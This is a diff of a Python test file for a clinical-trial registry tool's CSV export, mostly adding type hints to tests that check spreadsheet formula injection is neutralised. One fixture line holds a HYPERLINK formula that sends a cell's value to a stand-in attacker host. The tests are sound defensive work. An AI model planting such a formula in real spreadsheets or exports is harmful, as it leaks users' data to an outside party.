@@ -7,13 +7,14 @@ import copy
 import csv
 import io
 import json
+from pathlib import Path
 
 from hypothesis import given
 from hypothesis import strategies as st
 
 from monitor.reports.export import COLUMNS, FORMULA_STARTS, cell
 from monitor.text import printable
-from tests.conftest import SEED_FILES, load_seed, locations
+from tests.conftest import SEED_FILES, Trialwatch, load_seed, locations
 
 NCT = "NCT05869955"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -23,7 +24,7 @@ def rows(text: str) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(text, newline="")))
 
 
-def test_changes_csv_has_one_row_per_event_and_the_fixed_columns(trialwatch):
+def test_changes_csv_has_one_row_per_event_and_the_fixed_columns(trialwatch: Trialwatch) -> None:
     assert trialwatch("import", *map(str, SEED_FILES)).code == 0
     result = trialwatch("changes", "--csv")
     assert result.code == 0, result.stderr
@@ -46,7 +47,9 @@ def test_changes_csv_has_one_row_per_event_and_the_fixed_columns(trialwatch):
     assert json.loads(date["new"]) == {"date": "2029-02-28", "type": "ESTIMATED"}
 
 
-def test_registry_text_that_looks_like_a_formula_is_quoted(trialwatch, tmp_path):
+def test_registry_text_that_looks_like_a_formula_is_quoted(
+    trialwatch: Trialwatch, tmp_path: Path
+) -> None:
     before = load_seed()
     after = copy.deepcopy(before)
     locations(after)[0]["facility"] = FORMULA
@@ -65,14 +68,14 @@ def test_registry_text_that_looks_like_a_formula_is_quoted(trialwatch, tmp_path)
     assert not any(value.startswith(("=", "+", "-", "@")) for value in renamed.values())
 
 
-def test_csv_and_json_together_or_a_bom_alone_are_refused(trialwatch):
+def test_csv_and_json_together_or_a_bom_alone_are_refused(trialwatch: Trialwatch) -> None:
     assert trialwatch("changes", "--csv", "--json").code == 2
     refused = trialwatch("changes", "--bom")
     assert refused.code == 2 and refused.stderr == "trialwatch: --bom goes with --csv\n"
 
 
 @given(st.text())
-def test_no_cell_starts_a_formula_and_nothing_but_control_characters_is_changed(text):
+def test_no_cell_starts_a_formula_and_nothing_but_control_characters_is_changed(text: str) -> None:
     shown = cell(text)
     assert not shown.startswith(FORMULA_STARTS)
     kept = printable(text)
